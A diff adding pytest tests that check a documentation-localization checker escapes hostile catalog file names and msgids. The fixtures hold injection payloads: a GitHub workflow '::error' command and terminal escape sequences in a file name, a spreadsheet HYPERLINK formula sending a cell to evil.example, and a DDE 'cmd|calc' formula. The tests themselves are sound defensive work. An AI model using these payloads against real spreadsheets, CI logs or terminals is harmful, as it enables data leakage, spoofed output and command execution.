@@ -261,3 +261,105 @@ def test_coverage_csv_is_written_beside_any_format(outputs, tmp_path):
     for locale in data["locales"]:
         assert int(totals[locale["language"]]["translated"]) == locale["translated"]
         assert float(totals[locale["language"]]["percent"]) == locale["percent"]
+
+
+# --- What a catalog brings, in every report: a hostile article name and msgid --------------------
+
+# An article's name (a file name: git holds any byte but "/" and NUL) that, printed raw, starts a
+# workflow command of its own, hides a hyperlink, sets the clipboard (OSC 52), clears the screen,
+# and reverses the rest of the line; and a msgid a spreadsheet would run as a formula.
+HOSTILE = (
+    "x\n::error title=pwned::owned\x1b]8;;https:evil.example\x1b\\link\x1b]8;;\x1b\\"
+    "\x1b]52;c;cHduZWQ=\x07\x1b[2J\x9b2J\u202egpj"
+)
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+ACTED_ON = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
+
+
+@pytest.fixture(scope="module")
+def hostile_project(tmp_path_factory) -> Path:
+    """The guide's project with an article under ``HOSTILE``'s name (a finding in it) and a msgid ``FORMULA``."""
+    project = tmp_path_factory.mktemp("hostile") / "project"
+    project.mkdir()
+    for name in ("docs", "locales", "mkdocs.yml"):
+        (shutil.copytree if name != "mkdocs.yml" else shutil.copy)(REPO / name, project / name)
+    article = "assign-support-contacts"
+    shutil.copy(project / f"docs/en/{article}.md", project / f"docs/en/{HOSTILE}.md")
+    shutil.copy(project / f"locales/templates/{article}.pot", project / f"locales/templates/{HOSTILE}.pot")
+    for language in ("cs", "pl"):
+        folder = project / "locales" / language / "LC_MESSAGES"
+        shutil.copy(folder / f"{article}.po", folder / f"{HOSTILE}.po")
+    path = project / f"locales/cs/LC_MESSAGES/{HOSTILE}.po"
+    catalog = polib.pofile(str(path), wrapwidth=0)
+    entries = [e for e in catalog if e.msgid and not e.obsolete]
+    entries[3].msgstr = ""  # the catalog is incomplete: the text report lists it by name
+    entries[4].msgid = FORMULA  # a msgid the English page lacks: a finding that quotes it in every format
+    catalog.save(str(path))
+    return project
+
+
+def test_the_text_report_shows_what_a_catalog_name_holds_and_acts_on_none_of_it(hostile_project):
+    result = docloc_check(hostile_project, "--format", "text", "--show", "info")
+    assert result.returncode == 1, result.stderr
+    assert not ACTED_ON.search(result.stdout), [line for line in result.stdout.splitlines() if ACTED_ON.search(line)]
+    assert not any(line.startswith("::") for line in result.stdout.splitlines())
+    # (wrapped at spaces when pytest sets COLUMNS: the parts between spaces are checked)
+    assert "locales/cs/LC_MESSAGES/x\\x0a::error" in result.stdout  # findings at its file
+    assert "  cs x\\x0a::error" in result.stdout  # the incomplete catalog, listed by name
+    assert "title=pwned::owned\\x1b]8;;https:evil.example\\x1b\\link" in result.stdout
+    assert "\\x1b[2J\\x9b2J\\u202egpj" in result.stdout
+
+
+def test_an_error_naming_a_hostile_file_starts_no_workflow_command(tmp_path):
+    project = tmp_path / "project"
+    project.mkdir()
+    for name in ("docs", "locales"):
+        shutil.copytree(REPO / name, project / name)
+    shutil.copy(REPO / "mkdocs.yml", project / "mkdocs.yml")
+    (project / f"locales/cs/LC_MESSAGES/{HOSTILE}.po").write_text('msgid ""\nmsgstr "open\n', encoding="utf-8")
+    result = docloc_check(project, "--format", "github")
+    assert result.returncode == 2
+    lines = (result.stdout + result.stderr).splitlines()
+    assert not any(line.lstrip().startswith("::error title=pwned") for line in lines), lines
+    assert not ACTED_ON.search(result.stderr)
+    assert "x\\x0a::error title=pwned::owned" in result.stderr  # the file is still named, escaped
+
+
+def test_csv_cells_from_a_catalog_never_start_a_formula(hostile_project, tmp_path):
+    coverage = tmp_path / "coverage.csv"
+    result = docloc_check(hostile_project, "--format", "csv", "--coverage-csv", str(coverage))
+    assert result.returncode == 1, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    quoting = [row for row in rows if FORMULA in row["msgid"]]
+    assert quoting and all(row["msgid"] == "'" + FORMULA for row in quoting)
+    hostile = "=1+cmd|' -C calc'!A0"  # no slash: a file name
+    (hostile_project / "locales/pl/LC_MESSAGES" / f"{HOSTILE}.po").rename(
+        hostile_project / "locales/pl/LC_MESSAGES" / f"{hostile}.po"
+    )
+    try:
+        docloc_check(hostile_project, "--coverage-csv", str(coverage))
+    finally:
+        (hostile_project / "locales/pl/LC_MESSAGES" / f"{hostile}.po").rename(
+            hostile_project / "locales/pl/LC_MESSAGES" / f"{HOSTILE}.po"
+        )
+    names = [row["name"] for row in csv.DictReader(coverage.open(encoding="utf-8"))]
+    assert "'" + hostile + ".md" in names
+    for row in [*rows, *csv.DictReader(coverage.open(encoding="utf-8"))]:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
+def test_a_file_name_that_is_not_utf8_is_a_located_error_not_an_internal_one(tmp_path, fmt):
+    project = tmp_path / "project"
+    project.mkdir()
+    for name in ("docs", "locales"):
+        shutil.copytree(REPO / name, project / name)
+    shutil.copy(REPO / "mkdocs.yml", project / "mkdocs.yml")
+    name = b"bad\xff\xfe"  # Python holds these bytes as lone surrogates, which no UTF-8 report can write
+    folder = bytes(project / "locales" / "cs" / "LC_MESSAGES")
+    shutil.copy(project / "locales/cs/LC_MESSAGES/assign-support-contacts.po", folder + b"/" + name + b".po")
+    result = docloc_check(project, "--format", fmt, "--no-cache")
+    assert result.returncode == 2, result.stderr
+    assert "internal error" not in result.stderr
+    assert "locales/cs/LC_MESSAGES: a file name that is not UTF-8: 'bad\\\\xff\\\\xfe.po'" in result.stderr
